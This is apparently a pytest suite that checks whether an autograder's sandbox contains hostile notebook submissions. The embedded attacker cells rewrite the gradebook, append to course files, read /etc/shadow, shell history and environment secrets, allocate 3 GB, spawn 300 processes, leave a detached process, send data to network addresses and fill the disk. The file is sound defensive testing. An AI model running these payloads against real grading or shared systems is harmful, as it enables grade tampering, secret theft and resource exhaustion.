"""Hostile trainees against the grading sandbox, through the real `coproduction autograde`.

Each attacker hands in Assignment 1 answered correctly, with extra code in
their first answer cell that tries one attack: rewrite the gradebook, change
course files, read another trainee's work or the grader's secrets, use 3 GB
of memory, start 300 processes, leave a process running, reach the network,
fill the disk. Honest trainees graded in the same run must keep full marks,
nothing of the course may change, and nothing may be left running.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import psutil
import pytest

from coproduction.grading import sandbox
from coproduction.grading.cohort import _first_code_answer, make_notebook
from grading_helpers import ASSIGNMENT, BIN, ENV, auto_points, auto_scores, course_copy, grading_log

pytestmark = [pytest.mark.slow, pytest.mark.skipif(
    sandbox.unavailable_reason() is not None and not os.environ.get("CI"),
    reason=f"this machine cannot make the grading sandbox: {sandbox.unavailable_reason()}")]

AUTO_POINTS = auto_points()
SECRET = "hub-token-" + "7f3a9c" * 4
MARK = "coproduction-left-behind-marker"  # in the command line of processes left running


def _attacks(course: Path, port: int) -> dict[str, str]:
    """The extra code each attacker adds, keyed by their trainee id."""
    root = str(course)
    notebook = next((course / "solutions" / ASSIGNMENT).glob("*.ipynb")).name
    targets = [f"{root}/submitted/honest-1/{ASSIGNMENT}/{notebook}",
               f"{root}/solutions/{ASSIGNMENT}/{notebook}", f"{root}/gradebook.db",
               str(Path.home() / ".bash_history"), "/etc/shadow"]
    return {
        "x-gradebook": f"""
import sqlite3, glob
for path in glob.glob({root!r} + '/*.db') + [{root!r} + '/gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
        print('WROTE GRADEBOOK', path)
    except Exception as err:
        print('gradebook refused:', err)
""",
        "x-files": f"""
import glob
for path in [{root!r} + '/nbgrader_config.py', *glob.glob({root!r} + '/solutions/*/*'),
             *glob.glob({root!r} + '/submitted/honest-1/*/*')]:
    try:
        with open(path, 'a') as f:
            f.write('\\n# planted\\n')
        print('CHANGED', path)
    except Exception as err:
        print('write refused:', type(err).__name__)
""",
        "x-read": f"""
import glob, os
paths = {targets!r}
for path in paths:
    try:
        print('GOT-CONTENT-OF', path, open(path).read()[:2000])
    except Exception as err:
        print('read refused:', type(err).__name__)
print('ENV', dict(os.environ))
print('ROOT VISIBLE', os.path.exists({root!r}))
""",
        "x-memory": """
try:
    hog = bytearray(3 * 1024 ** 3)
    print('GOT 3 GB')
except MemoryError:
    print('memory refused')
""",
        "x-processes": """
import subprocess
kids = []
try:
    for _ in range(300):
        kids.append(subprocess.Popen(['sleep', '60']))
except Exception as err:
    print('refused after', len(kids), type(err).__name__)
print('STARTED', len(kids))
""",
        "x-detached": f"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c',
                  'import os, time; os.setsid(); os.fork() or time.sleep(600)', {MARK!r}],
                 start_new_session=True)
print('left one behind')
""",
        "x-network": f"""
import socket
for host in ('127.0.0.1', '192.0.2.1', '1.1.1.1'):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b'LEAK')
        print('CONNECTED', host)
    except OSError as err:
        print('no network to', host, type(err).__name__)
""",
        "x-disk": """
written = 0
try:
    with open('filler.bin', 'wb') as f:
        while written < 8 * 1024 ** 3:
            f.write(b'x' * 2 ** 20)
            written += 2 ** 20
except OSError as err:
    print('disk refused after', written // 2 ** 20, 'MB:', type(err).__name__)
""",
    }


def _submit(course: Path, student: str, extra: str = "") -> None:
    release = json.loads(next((course / "exercises" / ASSIGNMENT).glob("*.ipynb")).read_text())
    source_path = next((course / "solutions" / ASSIGNMENT).glob("*.ipynb"))
    source = json.loads(source_path.read_text())
    nb = json.loads(make_notebook("correct", release, source))
    if extra:
        cell = _first_code_answer(nb)
        cell["source"] = extra + "\n" + "".join(cell["source"])
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / source_path.name).write_text(json.dumps(nb))
    (folder / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC")


def _hashes(course: Path) -> dict[str, str]:
    watched = [course / "nbgrader_config.py", *sorted((course / "solutions").rglob("*")),
               *sorted((course / "submitted" / "honest-1").rglob("*")),
               *sorted((course / "exercises").rglob("*"))]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in watched if p.is_file()}


class _Listener:
    """A TCP listener on 127.0.0.1 that counts connections."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
                self.accepted += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self.running = False
        self.thread.join(2)
        self.sock.close()


def _total(course: Path, student: str) -> float:
    """The student's autograded points, as the course's gradebook holds them."""
    return sum(v or 0 for (who, _), v in auto_scores(course).items() if who == student)


def _outputs(course: Path, student: str) -> str:
    found = list((course / "autograded" / student / ASSIGNMENT).glob("*.ipynb"))
    if not found:
        return ""
    path = found[0]
    cells = json.loads(path.read_text())["cells"]
    return json.dumps([c.get("outputs", []) for c in cells])


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    course = course_copy(tmp_path_factory.mktemp("hostile"))
    listener = _Listener()
    honest = ["honest-1", "honest-2", "honest-3"]
    attacks = _attacks(course, listener.port)
    for student in honest:
        _submit(course, student)
    for student, code in attacks.items():
        _submit(course, student, code)
    before = _hashes(course)
    env = {**ENV, "JUPYTERHUB_API_TOKEN": SECRET, "COPRODUCTION_TEST_SECRET": SECRET}
    result = subprocess.run([str(BIN / "coproduction"), "autograde", ASSIGNMENT, "--quiet",
                             "--workers", "3", "--timeout", "90"],
                            cwd=course, env=env, capture_output=True, text=True, timeout=900)
    time.sleep(0.5)
    left = [p.info for p in psutil.process_iter(["pid", "cmdline"])
            if MARK in " ".join(p.info["cmdline"] or [])]
    listener.close()
    yield {"course": course, "result": result, "honest": honest, "attackers": list(attacks),
           "before": before, "left": left, "accepted": listener.accepted}
    for info in left:
        try:
            psutil.Process(info["pid"]).kill()
        except psutil.Error:
            pass


def test_run_finishes_and_grades_everyone(hostile_run):
    result = hostile_run["result"]
    log = grading_log(hostile_run["course"])
    # As nbgrader: exit status 1 exactly when some submission could not be graded.
    assert result.returncode == int(any(r["status"] != "graded" for r in log.values())), \
        result.stderr
    assert set(log) == set(hostile_run["honest"]) | set(hostile_run["attackers"])
    assert "ran in a sandbox" in result.stdout


def test_honest_trainees_keep_full_marks(hostile_run):
    for student in hostile_run["honest"]:
        assert _total(hostile_run["course"], student) == AUTO_POINTS, student


def test_gradebook_cannot_be_rewritten_from_a_notebook(hostile_run):
    out = _outputs(hostile_run["course"], "x-gradebook")
    assert "gradebook refused" in out and "WROTE GRADEBOOK" not in out
    assert _total(hostile_run["course"], "x-gradebook") == AUTO_POINTS


def test_course_files_and_other_work_are_unchanged(hostile_run):
    assert _hashes(hostile_run["course"]) == hostile_run["before"]
    out = _outputs(hostile_run["course"], "x-files")
    assert "CHANGED" not in out


def test_other_work_and_secrets_cannot_be_read(hostile_run):
    out = _outputs(hostile_run["course"], "x-read")
    assert "ROOT VISIBLE False" in out
    assert "GOT-CONTENT-OF" not in out and out.count("read refused") == 5
    assert SECRET not in out
    assert "JUPYTERHUB" not in out


def test_three_gigabytes_are_refused_and_said(hostile_run):
    out = _outputs(hostile_run["course"], "x-memory")
    assert "memory refused" in out and "GOT 3 GB" not in out
    assert grading_log(hostile_run["course"])["x-memory"]["status"] == "graded"


def test_three_hundred_processes_are_stopped(hostile_run):
    row = grading_log(hostile_run["course"])["x-processes"]
    out = _outputs(hostile_run["course"], "x-processes")
    # Run as root, the kernel's own process limit does not apply and the grader
    # stops the submission; as anyone else the limit refuses the 65th process.
    stopped = row["status"] == "failed" and "processes" in row["reason"]
    refused = "refused after" in out and "STARTED 300" not in out
    assert stopped or refused, (row, out[:500])
    assert not [p for p in psutil.process_iter(["cmdline"])
                if (p.info["cmdline"] or [])[:2] == ["sleep", "60"]]


def test_nothing_is_left_running(hostile_run):
    assert "left one behind" in _outputs(hostile_run["course"], "x-detached")
    assert hostile_run["left"] == []


def test_no_network(hostile_run):
    out = _outputs(hostile_run["course"], "x-network")
    assert "CONNECTED" not in out and out.count("no network to") == 3
    assert hostile_run["accepted"] == 0


def test_a_full_disk_stays_inside_the_sandbox(hostile_run):
    out = _outputs(hostile_run["course"], "x-disk")
    assert "disk refused after" in out
    megabytes = int(out.split("disk refused after ")[1].split(" ")[0])
    assert megabytes <= sandbox.Limits().disk // 2 ** 20
    assert grading_log(hostile_run["course"])["x-disk"]["status"] == "graded"


def test_no_sandbox_is_said_in_the_summary(tmp_path):
    course = course_copy(tmp_path / "course")
    _submit(course, "honest-1")
    result = subprocess.run([str(BIN / "coproduction"), "autograde", ASSIGNMENT, "--quiet",
                             "--no-sandbox"], cwd=course, env=ENV, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "sandbox was OFF" in result.stdout
    assert _total(course, "honest-1") == AUTO_POINTS


def test_refuses_plainly_where_no_sandbox_can_be_made(tmp_path):
    """Inside a user namespace that may make no more of them, as in some pods."""
    course = course_copy(tmp_path / "course")
    _submit(course, "honest-1")
    script = (f"echo 0 > /proc/sys/user/max_user_namespaces && "
              f"exec {BIN / 'coproduction'} autograde {ASSIGNMENT} --quiet")
    result = subprocess.run(["unshare", "--user", "--map-root-user", "sh", "-c", script],
                            cwd=course, env=ENV, capture_output=True, text=True, timeout=300)
    if "max_user_namespaces" in result.stderr and "ermission" in result.stderr:
        pytest.skip("this machine does not let a namespace limit its own user namespaces")
    assert result.returncode == 1
    assert "cannot make one" in result.stderr and "--no-sandbox" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (course / "autograded").exists()
